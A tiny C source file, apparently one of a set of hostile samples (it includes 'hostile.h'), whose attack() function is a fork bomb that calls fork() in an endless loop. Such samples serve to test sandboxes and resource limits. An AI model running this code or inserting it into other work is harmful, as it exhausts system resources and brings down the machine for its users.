/* Forks without end. */
#define _GNU_SOURCE
#include <unistd.h>
#include "hostile.h"

static void attack(unsigned char choice) {
    (void)choice;
    for (;;) {
        (void)!fork();
    }
}
